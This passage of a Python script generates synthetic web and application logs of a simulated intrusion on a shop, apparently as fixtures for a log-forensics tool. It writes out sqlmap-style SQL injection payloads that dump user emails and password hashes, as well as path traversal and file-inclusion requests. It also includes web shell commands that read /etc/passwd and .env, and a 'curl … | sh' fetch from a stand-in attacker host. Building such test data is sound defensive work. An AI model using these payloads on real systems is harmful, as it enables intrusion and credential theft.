                                      for ext in ("php", "asp", "jsp", "cgi", "pl", "html", "aspx", "cfm", "bak", "old",
                                                  "sh", "inc", "tar", "zip", "7z", "log")]):
    t += sec(rng.choice([0, 0, 1, 1, 2, 3]))
    test_id += rng.randint(1, 40)
    ua = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)" % test_id
    if path == "/":
        st, sz = 200, 8412
    elif path == "/robots.txt":
        st, sz = 200, 67
    elif path == "/uploads/":
        st, sz = 403, 153
    elif path.startswith("/cgi-bin/.%2e"):
        st, sz = 400, 157
    elif path.startswith("/index.php?"):
        st, sz = 200, 8412
    else:
        st, sz = 404, 153
    method = "GET" if i % 17 != 16 else rng.choice(["OPTIONS", "PROPFIND", "TRACE"])
    if method != "GET":
        st, sz = 405, 157
    access(t, ATTACKER, method, path, st, sz, "-", ua)

# sqlmap from the attacker
SQLMAP_UA = "sqlmap/1.7.2#stable (https://sqlmap.org)"
SQLMAP = [
    ("/products.php?id=7", 200, 9702),
    ("/products.php?id=7", 200, 9702),
    ("/products.php?id=7&KUTb=6842%20AND%201%3D1%20UNION%20ALL%20SELECT%201%2CNULL%2C%27%3Cscript%3Ealert%28%22XSS%22%29%3C%2Fscript%3E%27%2Ctable_name%20FROM%20information_schema.tables%20WHERE%202%3E1--%2F%2A%2A%2F%3B%20EXEC%20xp_cmdshell%28%27cat%20..%2F..%2F..%2Fetc%2Fpasswd%27%29%23", 200, 9702),
    ("/products.php?id=1718", 200, 3871),
    ("/products.php?id=7%27%29.%2C%28%28%22%28%27", 500, 0),
    ("/products.php?id=7%27rDCtNv%3C%27%22%3EXcQUhu", 500, 0),
    ("/products.php?id=7%29%20AND%205129%3D5129%20AND%20%289331%3D9331", 500, 0),
    ("/products.php?id=7%20AND%205129%3D5129", 200, 9702),
    ("/products.php?id=7%20AND%205129%3D8421", 200, 3871),
    ("/products.php?id=7%27%20AND%203161%3D3161%20AND%20%27mOaT%27%3D%27mOaT", 200, 3871),
    ("/products.php?id=7%20AND%20%28SELECT%204211%20FROM%20%28SELECT%28SLEEP%285%29%29%29dXcF%29", 200, 9702),
    ("/products.php?id=7%20AND%20%28SELECT%204211%20FROM%20%28SELECT%28SLEEP%280%29%29%29dXcF%29", 200, 9702),
    ("/products.php?id=7%20ORDER%20BY%201--%20-", 200, 9702),
    ("/products.php?id=7%20ORDER%20BY%2010--%20-", 500, 0),
    ("/products.php?id=7%20ORDER%20BY%205--%20-", 200, 9702),
    ("/products.php?id=7%20ORDER%20BY%207--%20-", 500, 0),
    ("/products.php?id=7%20ORDER%20BY%206--%20-", 200, 9702),
    ("/products.php?id=7%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL%2CNULL%2CNULL%2CCONCAT%280x7178627671%2C0x6f54524f43%2C0x716a787071%29--%20-", 200, 9788),
    ("/products.php?id=-6353%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7178627671%2CIFNULL%28CAST%28schema_name%20AS%20NCHAR%29%2C0x20%29%2C0x716a787071%29%2CNULL%2CNULL%2CNULL%20FROM%20INFORMATION_SCHEMA.SCHEMATA--%20-", 200, 4012),
    ("/products.php?id=-6353%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7178627671%2CIFNULL%28CAST%28table_name%20AS%20NCHAR%29%2C0x20%29%2C0x716a787071%29%2CNULL%2CNULL%2CNULL%20FROM%20INFORMATION_SCHEMA.TABLES%20WHERE%20table_schema%20IN%20%280x73686f70%29--%20-", 200, 4120),
    ("/products.php?id=-6353%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7178627671%2CIFNULL%28CAST%28column_name%20AS%20NCHAR%29%2C0x20%29%2C0x716a787071%29%2CNULL%2CNULL%2CNULL%20FROM%20INFORMATION_SCHEMA.COLUMNS%20WHERE%20table_name%3D0x7573657273%20AND%20table_schema%3D0x73686f70--%20-", 200, 4090),
    ("/products.php?id=-6353%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7178627671%2CIFNULL%28CAST%28email%20AS%20NCHAR%29%2C0x20%29%2C0x6a73786b6e%2CIFNULL%28CAST%28password_hash%20AS%20NCHAR%29%2C0x20%29%2C0x716a787071%29%2CNULL%2CNULL%2CNULL%20FROM%20shop.users--%20-", 200, 6311),
]
t = T(2026, 1, 3, 11, 14, 3)
for url, st, sz in SQLMAP:
    t += sec(rng.choice([0, 1, 1, 2]))
    if "SLEEP%285" in url:
        t += sec(5)
    access(t, ATTACKER, "GET", url, st, sz, "-", SQLMAP_UA)

# manual probing with curl
CURL_UA = "curl/8.5.0"
t = T(2026, 1, 3, 11, 25, 9)
for url, st, sz in [
    ("/download.php?file=../../../../etc/passwd", 404, 153),
    ("/static/..%2f..%2f..%2f..%2fetc%2fpasswd", 400, 157),
    ("/products.php?id=1'%20OR%20'1'='1", 200, 15220),
    ("/products.php?id=1%27%20OR%201=1--%20-", 200, 15220),
    ("/index.php?page=....//....//....//etc/passwd", 200, 8412),
    ("/index.php?page=php://filter/convert.base64-encode/resource=index", 200, 8412),
]:
    t += sec(rng.randint(9, 40))
    access(t, ATTACKER, "GET", url, st, sz, "-", CURL_UA)

# app signup and login attempts from the attacker through the browser
FF = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
access(T(2026, 1, 3, 11, 33, 40), ATTACKER, "GET", "/register", 200, 4310, SITE + "/login", FF, "HTTP/2.0")
access(T(2026, 1, 3, 11, 34, 12), ATTACKER, "POST", "/register", 302, 0, SITE + "/register", FF, "HTTP/2.0")
for s in (51, 58, 66):
    access(T(2026, 1, 3, 11, 35, 0) + sec(s), ATTACKER, "POST", "/admin/login", 401, 612, SITE + "/admin/login", FF, "HTTP/2.0")

# the web shell
t = T(2026, 1, 3, 12, 31, 55)
for cmd, sz in [("id", 54), ("whoami", 9), ("uname%20-a", 112), ("pwd", 24), ("ls%20-la", 611),
                ("cat%20/etc/passwd", 1421), ("cat%20../config/.env", 388)]:
    access(t, ATTACKER, "GET", "/uploads/shell.php?cmd=%s" % cmd, 200, sz, "-", CURL_UA)
    t += sec(rng.randint(15, 70))
access(T(2026, 1, 3, 12, 41, 6), ATTACKER, "GET",
       "/uploads/shell.php?cmd=curl%20-s%20http%3A%2F%2Fupdate.evil-cdn.example%2Fx.sh%20%7C%20sh", 200, 0, "-", CURL_UA)

# ---------------------------------------------------------------- app events (JSON lines)


def ev(t, **kw):
    obj = {"@timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)}
    obj.update(kw)
    B.line("app", t, json.dumps(obj, separators=(",", ":")))


def ms(y, mo, d, h, mi, s, milli):
    return T(y, mo, d, h, mi, s, milli * 1000)


ev(ms(2026, 1, 2, 8, 12, 40, 118), level="info", service="shop", event="user.login", user_id=2211,
   remote_addr="198.51.100.140", request_id="4f1c2a0e")
ev(ms(2026, 1, 2, 8, 19, 2, 551), level="info", service="shop", event="order.created", user_id=2211, order_id=90412,
   total_cents=12990, currency="EUR", request_id="9b07d6e1")
ev(ms(2026, 1, 2, 14, 22, 9, 3), level="info", service="shop", event="deploy.finished", version="2.14.1",
   commit="a41c9e2", by="ci")
ev(ms(2026, 1, 2, 19, 47, 31, 876), level="info", service="shop", event="user.login", user_id=1830,
   remote_addr="203.0.113.77", request_id="77ac10bd")
ev(ms(2026, 1, 2, 19, 51, 4, 260), level="info", service="shop", event="order.created", user_id=1830, order_id=90413,
   total_cents=4590, currency="EUR", request_id="e1d0a953")
ev(ms(2026, 1, 3, 9, 5, 11, 402), level="info", service="shop", event="user.password_reset_requested", user_id=1402,
   remote_addr="192.0.2.141", request_id="0c3b7f52")
ev(ms(2026, 1, 3, 11, 14, 9, 733), level="error", service="shop", event="db.query_failed", route="/products.php",
   error="SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax",
   remote_addr=ATTACKER, request_id="51e8aa04")
ev(ms(2026, 1, 3, 11, 34, 12, 871), level="info", service="shop", event="user.registered", user_id=2519,
   email=ATTACKER_MAIL, remote_addr=ATTACKER, request_id="c4d2e7a9")
for s, rid in ((51, "0d9f1e33"), (58, "6ab24c10"), (66, "f310c8d7")):
    t = T(2026, 1, 3, 11, 35, 0) + sec(s) + dt.timedelta(milliseconds=rng.randint(100, 900))
    ev(t, level="warning", service="shop", event="admin.login_failed", username="admin", remote_addr=ATTACKER,
       request_id=rid)
ev(ms(2026, 1, 3, 12, 41, 7, 250), level="warning", service="shop", event="security.exec_detected",
   script="/var/www/shop/public/uploads/shell.php", function="shell_exec", command="curl -s %s | sh" % C2_URL,
   remote_addr=ATTACKER, request_id="ae51f0c3")
ev(ms(2026, 1, 3, 15, 2, 48, 95), level="info", service="shop", event="user.login", user_id=2211,
   remote_addr="198.51.100.140", request_id="2c6e0b71")
ev(ms(2026, 1, 3, 21, 18, 30, 664), level="info", service="shop", event="order.created", user_id=977, order_id=90414,
   total_cents=21980, currency="EUR", request_id="b8f4d2c6")
ev(ms(2026, 1, 4, 2, 0, 0, 12), level="info", service="shop", event="cache.purged", keys=412)

# ---------------------------------------------------------------- write


def write_all():
    B.render()
    total = 0
    written = []
    for rel, (log, start, end, gz, mtime) in FILES.items():
        rows = sorted((r for r in B.lines[log] if start <= r[0] < end), key=lambda r: (r[0], r[1]))
        if not rows:
            raise SystemExit("no lines for %s" % rel)
        if rows[-1][0] > mtime:
            raise SystemExit("%s: last entry after mtime" % rel)
        data = "".join(r[2] + "\n" for r in rows).encode("ascii")
        if gz:
            buf = io.BytesIO()
            with gzip.GzipFile(filename="", mode="wb", fileobj=buf, compresslevel=9, mtime=0) as g:
                g.write(data)
            data = buf.getvalue()
        path = os.path.join(ROOT, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        ts = mtime.timestamp()
        os.utime(path, (ts, ts))
        total += len(data)
        written.append("%s(%d lines)" % (rel, len(rows)))
    print("make-demo-case: wrote %d files, %d bytes to %s: %s" % (len(written), total, "fixtures/demo-case", ", ".join(written)))


def set_mtimes():
    # git does not keep modification times, but year inference for year-less syslog stamps
    # depends on them (as it would on a seized disk), so a checkout gets them back here.
    for rel, (_log, _start, _end, _gz, mtime) in FILES.items():
        ts = mtime.timestamp()
        os.utime(os.path.join(ROOT, rel), (ts, ts))


if __name__ == "__main__":
    if sys.version_info < (3, 6):
        raise SystemExit("python 3.6+ needed")
    if "--set-mtimes" in sys.argv[1:]:
        set_mtimes()
    else:
        write_all()
